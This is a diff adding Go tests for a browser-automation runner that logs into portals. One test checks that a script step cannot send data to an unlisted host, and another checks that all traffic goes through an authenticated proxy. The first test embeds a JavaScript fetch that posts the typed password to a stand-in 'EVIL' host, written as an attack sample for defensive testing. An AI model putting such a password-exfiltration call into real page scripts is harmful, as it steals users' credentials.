@@ -1,0 +1,147 @@
+package portals
+
+import (
+	"context"
+	"encoding/base64"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/twofetch/twofetch"
+)
+
+// TestScriptCannotExfiltrate: a js step posts the typed password to a host
+// the script does not list. The browser's request is refused before it
+// leaves, and the run ends as portal_changed naming the URL, redacted.
+func TestScriptCannotExfiltrate(t *testing.T) {
+	pool := testPool(t)
+	host, s := newSite(t)
+	evil, _ := newSite(t)
+	src := header + "two_factor: []\n" + `
+login:
+  - navigate: https://HOST/login
+  - type: {selector: "input[name=password]", value: "{{password}}"}
+  - js:
+      script: |
+        const p = document.querySelector('input[name=password]').value;
+        try { await fetch('https://EVIL/steal?p=' + encodeURIComponent(p), {method: 'POST', body: p, mode: 'no-cors'}); } catch (e) {}
+        return true
+documents:
+  - go: noop
+`
+	src = strings.ReplaceAll(src, "EVIL", evil)
+	res, err := runJob(t, NewRunner(scriptFor(t, host, src), pool, Steps{"noop": func(context.Context, *StepContext) error { return nil }}), testJob(t, &fakeSecrets{password: s.password}, &memStore{}, nil))
+	if twofetch.OutcomeOf(err) != twofetch.OutcomePortalChanged || !strings.Contains(err.Error(), "https://"+evil+"/") {
+		t.Fatalf("outcome %s (%v), want portal_changed naming %s\n%s", twofetch.OutcomeOf(err), err, evil, stepsText(res))
+	}
+	if strings.Contains(err.Error(), "correct") {
+		t.Errorf("the error carries the password: %v", err)
+	}
+	shared.mu.Lock()
+	evilSite := shared.site[evil]
+	shared.mu.Unlock()
+	evilSite.mu.Lock()
+	defer evilSite.mu.Unlock()
+	if len(evilSite.hits) != 0 {
+		t.Errorf("the other host received %v", evilSite.hits)
+	}
+}
+
+// TestProxyCarriesEverything runs a job through a login's proxy on
+// loopback. The proxy reaches the portal from 127.0.0.2, so the portal
+// tells proxied requests from any that bypassed it: the page, an image, an
+// iframe, a worker's fetch and a download all arrive through the proxy.
+func TestProxyCarriesEverything(t *testing.T) {
+	pool := testPool(t)
+	var mu sync.Mutex
+	seen := map[string]string{} // path -> client address
+	origin := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		ip, _, _ := net.SplitHostPort(r.RemoteAddr)
+		mu.Lock()
+		seen[r.URL.Path] = ip
+		mu.Unlock()
+		switch r.URL.Path {
+		case "/login":
+			fmt.Fprint(w, `<!doctype html><html><body><img src="/img.png"><iframe src="/frame"></iframe>
+<a class="dl" href="/file.pdf" download>PDF</a>
+<script>const wk = new Worker('/w.js'); wk.onmessage = () => { const p = document.createElement('p'); p.id = 'ready'; p.textContent = 'ready'; document.body.append(p); };</script>
+</body></html>`)
+		case "/w.js":
+			w.Header().Set("Content-Type", "text/javascript")
+			fmt.Fprint(w, `fetch('/from-worker').then(r => r.text()).then(t => postMessage(t));`)
+		case "/file.pdf":
+			w.Header().Set("Content-Type", pdfType)
+			w.Header().Set("Content-Disposition", `attachment; filename="file.pdf"`)
+			w.Write(invoice{ID: "P-1"}.pdf())
+		default:
+			fmt.Fprint(w, "ok")
+		}
+	}))
+	origin.StartTLS()
+	defer origin.Close()
+
+	var connects []string
+	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Method != http.MethodConnect || r.Header.Get("Proxy-Authorization") != "Basic "+base64.StdEncoding.EncodeToString([]byte("alice:s3cret")) {
+			http.Error(w, "no", http.StatusProxyAuthRequired)
+			return
+		}
+		mu.Lock()
+		connects = append(connects, r.Host)
+		mu.Unlock()
+		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.2")}}
+		up, err := d.Dial("tcp", origin.Listener.Addr().String())
+		if err != nil {
+			http.Error(w, err.Error(), http.StatusBadGateway)
+			return
+		}
+		w.WriteHeader(http.StatusOK)
+		down, _, err := w.(http.Hijacker).Hijack()
+		if err != nil {
+			up.Close()
+			return
+		}
+		go func() { io.Copy(up, down); up.Close() }()
+		io.Copy(down, up)
+		down.Close()
+	}))
+	defer proxy.Close()
+
+	host := fmt.Sprintf("proxied%d.portal.test", time.Now().UnixNano()%1e6)
+	src := header + "two_factor: []\n" + `
+login:
+  - navigate: https://HOST/login
+  - wait: {selector: "#ready"}
+documents:
+  - download: {id: P-1, click: "a.dl", content_type: application/pdf}
+`
+	job := testJob(t, &fakeSecrets{}, &memStore{}, nil)
+	job.Proxy = "http://alice:s3cret@" + proxy.Listener.Addr().String()
+	res, err := runJob(t, NewRunner(scriptFor(t, host, src), pool), job)
+	if err != nil || res.New != 1 {
+		t.Fatalf("run through the proxy: %v, %d new\n%s", err, res.New, stepsText(res))
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	for _, path := range []string{"/login", "/img.png", "/frame", "/w.js", "/from-worker", "/file.pdf"} {
+		if ip, ok := seen[path]; !ok || ip != "127.0.0.2" {
+			t.Errorf("%s: reached the portal from %q, want 127.0.0.2 (through the proxy)", path, ip)
+		}
+	}
+	for p, ip := range seen {
+		if ip != "127.0.0.2" {
+			t.Errorf("%s bypassed the proxy (from %s)", p, ip)
+		}
+	}
+	for _, c := range connects {
+		if c != host+":443" {
+			t.Errorf("the proxy was asked for %s, want only %s:443", c, host)
+		}
+	}
+}
